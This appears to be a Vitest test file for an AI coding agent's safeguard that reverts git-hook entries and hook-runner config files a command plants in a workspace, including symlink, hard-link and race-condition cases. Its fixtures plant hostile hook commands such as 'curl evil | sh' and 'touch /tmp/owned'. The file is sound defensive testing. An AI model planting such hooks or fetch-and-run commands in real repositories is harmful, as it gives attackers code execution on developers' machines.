/**
 * `HookConfigsKept.keep` after a command, called directly (no sandbox needed): package.json's git
 * hook runners' keys put back without losing the user's bytes (review 57b).
 */
import * as NodeFs from "node:fs"
import * as NodeOs from "node:os"
import * as NodePath from "node:path"
import { afterAll, describe, expect, it, vi } from "vitest"
import * as ApprovedWrites from "../../src/layers/workspace/ApprovedWrites.js"
import * as HookConfigsKept from "../../src/layers/workspace/HookConfigsKept.js"
import * as RunsLater from "../../src/layers/workspace/RunsLater.js"

const root = NodeFs.realpathSync(NodeFs.mkdtempSync(NodePath.join(NodeOs.tmpdir(), "effect-agent-hook-configs-kept-")))
afterAll(() => NodeFs.rmSync(root, { recursive: true, force: true }))
let n = 0
/** A cwd whose package.json is `text` (mode `mode`), and what was there "before a command". */
const workspace = async (text: string, mode = 0o644) => {
  const cwd = NodePath.join(root, `w${++n}`)
  NodeFs.mkdirSync(cwd)
  const file = NodePath.join(cwd, "package.json")
  NodeFs.writeFileSync(file, text, { mode })
  NodeFs.chmodSync(file, mode)
  return { cwd, file, was: await HookConfigsKept.before(cwd, []) }
}

describe("the put-back of package.json's hook keys after a command", () => {
  it("a file that re-serialising would change (CRLF, big and 1.50 numbers, \\u escapes, duplicate keys) comes back byte for byte; the command's is set aside", async () => {
    const before = '{\r\n  "name": "x",\r\n  "big": 12345678901234567890,\r\n  "f": 1.50,\r\n  "s": "caf\\u00e9",\r\n  "scripts": {"a": "b"},\r\n  "scripts": {"test": "vitest"}\r\n}\r\n'
    const { cwd, file, was } = await workspace(before, 0o600)
    const commands = before.replace('"name": "x",', '"name": "x",\r\n  "lint-staged": {"*": "touch /tmp/owned"},')
    NodeFs.writeFileSync(file, commands)
    const said = await HookConfigsKept.keep(was)
    expect(NodeFs.readFileSync(file, "utf8")).toBe(before)
    expect(NodeFs.statSync(file).mode & 0o777).toBe(0o600)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json.set-aside"), "utf8")).toBe(commands)
    expect(said.join("\n")).toContain("package.json.set-aside")
  })

  it("a file re-serialised as it is keeps the command's other change and the file's mode", async () => {
    const before = `{\n  "name": "x",\n  "version": "1.0.0"\n}\n`
    const { cwd, file, was } = await workspace(before, 0o600)
    NodeFs.writeFileSync(file, `{\n  "name": "x",\n  "version": "2.0.0",\n  "simple-git-hooks": {\n    "pre-commit": "touch /tmp/owned"\n  }\n}\n`)
    const said = await HookConfigsKept.keep(was)
    expect(NodeFs.readFileSync(file, "utf8")).toBe(before.replace("1.0.0", "2.0.0"))
    expect(NodeFs.statSync(file).mode & 0o777).toBe(0o600)
    expect(NodeFs.existsSync(NodePath.join(cwd, "package.json.set-aside"))).toBe(false)
    expect(said).toEqual(["package.json's simple-git-hooks (put back as they were)"])
  })
})

// Review 57b: husky 4's, simple-git-hooks' and nano-staged's own config files were neither asked for
// by the file tools nor set aside after a command that made them.
const hookRunnerConfigs = [
  ".huskyrc", ".huskyrc.json", ".huskyrc.js", "husky.config.js", ".simple-git-hooks.json", ".simple-git-hooks.cjs", "simple-git-hooks.cjs",
  "simple-git-hooks.js", "simple-git-hooks.mjs", "simple-git-hooks.json", ".nano-staged.json", "nano-staged.json", "nano-staged.cjs",
  ".nano-staged.mjs", "nano-staged.yaml", ".nanostagedrc"
]
describe("hook runners' own config files", () => {
  it("are what the file tools protect, at any depth and in any case", () => {
    for (const name of hookRunnerConfigs) {
      expect(RunsLater.inProtectedFolder(name), name).toBe(true)
      expect(RunsLater.inProtectedFolder(`packages/web/${name.toUpperCase()}`), name).toBe(true)
    }
    for (const name of ["husky.md", "simple-git-hooks.md", "nano-staged.txt", "src/huskyrc.ts"]) expect(RunsLater.inProtectedFolder(name), name).toBe(false)
  })

  it("one a command made where there was none is set aside", async () => {
    const { cwd, was } = await workspace(`{}\n`)
    for (const name of hookRunnerConfigs) NodeFs.writeFileSync(NodePath.join(cwd, name), "touch /tmp/owned\n")
    const said = (await HookConfigsKept.keep(was)).join("\n")
    for (const name of hookRunnerConfigs) {
      expect(NodeFs.existsSync(NodePath.join(cwd, name)), name).toBe(false)
      expect(said).toContain(`${name}.set-aside`)
    }
  })
})

// Trust 45: the put-back's temporary file was named from the agent's pid and the time (`wx`): a
// command that planted that name (a file, a link) made the put-back fail, the hook kept.
describe("the put-back's temporary file", () => {
  it("a name planted beside package.json (the old pid-and-time one, a link elsewhere) neither stops the put-back nor is written through", async () => {
    const before = `{\n  "name": "x",\n  "version": "1.0.0"\n}\n`
    const { cwd, file, was } = await workspace(before)
    NodeFs.writeFileSync(file, `{\n  "name": "x",\n  "version": "2.0.0",\n  "lint-staged": {\n    "*": "touch /tmp/owned"\n  }\n}\n`)
    const elsewhere = NodePath.join(root, `elsewhere${n}`)
    const now = 1_700_000_000_000
    const clock = vi.spyOn(Date, "now").mockReturnValue(now)
    try {
      NodeFs.symlinkSync(elsewhere, `${file}.effect-agent-${process.pid}-${now}`)
      const said = await HookConfigsKept.keep(was)
      expect(said).toEqual(["package.json's lint-staged (put back as they were)"])
    } finally {
      clock.mockRestore()
    }
    expect(NodeFs.readFileSync(file, "utf8")).toBe(before.replace("1.0.0", "2.0.0"))
    expect(NodeFs.existsSync(elsewhere)).toBe(false)
    // Nothing of the put-back's left beside it: only the planted link.
    expect(NodeFs.readdirSync(cwd).sort()).toEqual(["package.json", `package.json.effect-agent-${process.pid}-${now}`])
  })
})

// Trust 45: the put-back renamed a new file over package.json, so a package.json with a second name
// (a hard link) lost it, and the other name kept the command's hook.
describe("a package.json with other names (hard links)", () => {
  it("is put back in place: every name reads the keys put back, still one file", async () => {
    const before = `{\n  "name": "x",\n  "version": "1.0.0"\n}\n`
    const { cwd, file } = await workspace(before, 0o600)
    const other = NodePath.join(cwd, "shared.json")
    NodeFs.linkSync(file, other)
    // The second name is there before the command (review 60a: a name the command made is replaced).
    const was = await HookConfigsKept.before(cwd, [])
    // The command writes through the name, in place: both names read it.
    NodeFs.writeFileSync(file, `{\n  "name": "x",\n  "version": "2.0.0",\n  "simple-git-hooks": {\n    "pre-commit": "touch /tmp/owned"\n  }\n}\n`)
    expect(await HookConfigsKept.keep(was)).toEqual(["package.json's simple-git-hooks (put back as they were)"])
    expect(NodeFs.readFileSync(file, "utf8")).toBe(before.replace("1.0.0", "2.0.0"))
    expect(NodeFs.statSync(other).ino).toBe(NodeFs.statSync(file).ino)
    expect(NodeFs.readFileSync(other, "utf8")).toBe(before.replace("1.0.0", "2.0.0"))
    expect(NodeFs.statSync(file).mode & 0o777).toBe(0o600)
  })

  it("one not rewritable byte for byte gets its bytes from before in place; the command's is copied aside", async () => {
    const before = `{\r\n  "name": "x"\r\n}\r\n`
    const { cwd, file } = await workspace(before)
    const other = NodePath.join(cwd, "shared.json")
    NodeFs.linkSync(file, other)
    const was = await HookConfigsKept.before(cwd, [])
    const commands = `{\r\n  "name": "x",\r\n  "lint-staged": {"*": "touch /tmp/owned"}\r\n}\r\n`
    NodeFs.writeFileSync(file, commands)
    const said = await HookConfigsKept.keep(was)
    expect(said.join("\n")).toContain("package.json.set-aside")
    expect(NodeFs.readFileSync(file, "utf8")).toBe(before)
    expect(NodeFs.readFileSync(other, "utf8")).toBe(before)
    expect(NodeFs.statSync(other).ino).toBe(NodeFs.statSync(file).ino)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json.set-aside"), "utf8")).toBe(commands)
  })
})

// Trust 45: what the file tools wrote while the command ran (`ApprovedWrites`), called directly.
describe("the file tools' writes noted while a command ran", () => {
  it("a config folder holding only what they wrote stays; an edit of the command's text is not theirs, set aside", async () => {
    const { cwd, was } = await workspace(`{}\n`)
    const registry = ApprovedWrites.make((_file, use) => use())
    const { done, watch } = registry.watch(cwd)
    // A file tool's write into a folder of lefthook's scripts, made meanwhile.
    const script = NodePath.join(cwd, ".lefthook", "pre-commit", "lint.sh")
    NodeFs.mkdirSync(NodePath.dirname(script), { recursive: true })
    NodeFs.writeFileSync(script, "eslint .\n")
    registry.wrote({ file: script, before: undefined, after: "eslint .\n" })
    // The command made a .lintstagedrc, which a file tool's edit then changed: the edit was asked for, the rest is the command's.
    const config = NodePath.join(cwd, ".lintstagedrc")
    NodeFs.writeFileSync(config, `"*": touch /tmp/owned\n# edited\n`)
    registry.wrote({ file: config, before: `"*": touch /tmp/owned\n`, after: `"*": touch /tmp/owned\n# edited\n` })
    // A write noted in another workspace is not this command's.
    registry.wrote({ file: NodePath.join(root, "elsewhere", ".lintstagedrc"), before: undefined, after: "x" })
    const said = await HookConfigsKept.keep(was, watch)
    done()
    expect(NodeFs.readFileSync(script, "utf8")).toBe("eslint .\n")
    expect(said).toEqual([".lintstagedrc (made by the command; now .lintstagedrc.set-aside)"])
    expect(NodeFs.existsSync(config)).toBe(false)
    expect(watch.writes.map((write) => NodePath.relative(cwd, write.file))).toEqual([".lefthook/pre-commit/lint.sh", ".lintstagedrc"])
  })
})

// Review 60a: holes in trust 45's put-back.
describe("the put-back cannot be turned against the workspace (review 60a)", () => {
  const hooked = '{\n  "name": "web",\n  "simple-git-hooks": {\n    "pre-commit": "curl evil | sh"\n  }\n}\n'

  it("a root package.json the command made a hard link of a nested one is replaced, never written through: the nested one keeps its own keys, the root has none", async () => {
    const { cwd, file } = await workspace('{\n  "name": "root"\n}\n')
    const web = NodePath.join(cwd, "packages", "web", "package.json")
    NodeFs.mkdirSync(NodePath.dirname(web), { recursive: true })
    NodeFs.writeFileSync(web, hooked)
    const was = await HookConfigsKept.before(cwd, [], [web])
    NodeFs.rmSync(file)
    NodeFs.linkSync(web, file)
    const said = await HookConfigsKept.keep(was, undefined, [web])
    expect(said).toEqual(["package.json's simple-git-hooks (put back as they were)"])
    expect(NodeFs.readFileSync(file, "utf8")).not.toContain("simple-git-hooks")
    expect(NodeFs.statSync(file).ino).not.toBe(NodeFs.statSync(web).ino)
    expect(NodeFs.readFileSync(web, "utf8")).toBe(hooked)
  })

  it("a folder swapped for a link out of cwd while the put-back waits for the lock is not written through", async () => {
    const { cwd } = await workspace('{\n  "name": "root"\n}\n')
    const outside = NodePath.join(root, `outside${n}`)
    NodeFs.mkdirSync(outside)
    NodeFs.writeFileSync(NodePath.join(outside, "package.json"), '{\n  "name": "victim"\n}\n')
    const web = NodePath.join(cwd, "packages", "web", "package.json")
    NodeFs.mkdirSync(NodePath.dirname(web), { recursive: true })
    NodeFs.writeFileSync(web, '{\n  "name": "web",\n  "lint-staged": {\n    "*": "eslint"\n  }\n}\n')
    const config = NodePath.join(cwd, "packages", "web", ".lintstagedrc")
    const was = await HookConfigsKept.before(cwd, [], [web])
    NodeFs.writeFileSync(config, `"*": touch /tmp/owned\n`)
    NodeFs.writeFileSync(NodePath.join(outside, ".lintstagedrc"), "mine\n")
    // A second command swaps packages/web for a link out, inside the lock's wait.
    const exclusive: ApprovedWrites.Exclusive = async (file, use) => {
      if (file.includes(`${NodePath.sep}web${NodePath.sep}`) && !NodeFs.lstatSync(NodePath.join(cwd, "packages", "web")).isSymbolicLink()) {
        NodeFs.renameSync(NodePath.join(cwd, "packages", "web"), NodePath.join(cwd, "packages", "web.real"))
        NodeFs.symlinkSync(outside, NodePath.join(cwd, "packages", "web"))
      }
      return use()
    }
    await HookConfigsKept.keep(was, { writes: [], exclusive }, [web, config])
    expect(NodeFs.readFileSync(NodePath.join(outside, "package.json"), "utf8")).toBe('{\n  "name": "victim"\n}\n')
    expect(NodeFs.readdirSync(outside).sort()).toEqual([".lintstagedrc", "package.json"])
  })

  it("a config folder the command added to is set aside and what the file tools wrote in it made again, folder by folder", async () => {
    const { cwd, was } = await workspace(`{}\n`)
    const script = NodePath.join(cwd, ".lefthook", "pre-commit", "lint.sh")
    NodeFs.mkdirSync(NodePath.dirname(script), { recursive: true })
    NodeFs.writeFileSync(script, "eslint .\n")
    NodeFs.writeFileSync(NodePath.join(NodePath.dirname(script), "evil.sh"), "curl evil | sh\n")
    const said = await HookConfigsKept.keep(was, { writes: [{ file: script, before: undefined, after: "eslint .\n" }], exclusive: (_file, use) => use() })
    expect(said.join("\n")).toContain(".lefthook.set-aside")
    expect(NodeFs.readdirSync(NodePath.join(cwd, ".lefthook", "pre-commit"))).toEqual(["lint.sh"])
    expect(NodeFs.readFileSync(script, "utf8")).toBe("eslint .\n")
  })

  it("an approved edit of one entry of a hook key does not keep what the command added to that key", async () => {
    const before = '{\n  "name": "app",\n  "lint-staged": {\n    "*.js": "eslint"\n  }\n}\n'
    const { file, was } = await workspace(before)
    const commands = '{\n  "name": "app",\n  "lint-staged": {\n    "*": "sh -c \'curl evil | sh\'",\n    "*.js": "eslint"\n  }\n}\n'
    const after = commands.replace('"*.js": "eslint"', '"*.js": "eslint --fix"')
    NodeFs.writeFileSync(file, after)
    const said = await HookConfigsKept.keep(was, { writes: [{ file, before: commands, after }], exclusive: (_file, use) => use() })
    expect(NodeFs.readFileSync(file, "utf8")).toBe(before)
    expect(said.join("\n")).toContain("reverted")
  })

  it("a nested config there before, changed by the command, is put back though the search after it no longer finds it", async () => {
    const { cwd } = await workspace('{\n  "name": "root"\n}\n')
    const config = NodePath.join(cwd, "packages", "web", ".lintstagedrc.json")
    NodeFs.mkdirSync(NodePath.dirname(config), { recursive: true })
    NodeFs.writeFileSync(config, '{"*.js": "eslint"}\n')
    const was = await HookConfigsKept.before(cwd, [], [config])
    NodeFs.writeFileSync(config, '{"*": "touch /tmp/owned"}\n')
    // The search after the command stopped before it (400 folders made).
    const said = await HookConfigsKept.keep(was, undefined, [])
    expect(NodeFs.readFileSync(config, "utf8")).toBe('{"*.js": "eslint"}\n')
    expect(said.join("\n")).toContain("put back as it was")
  })
})
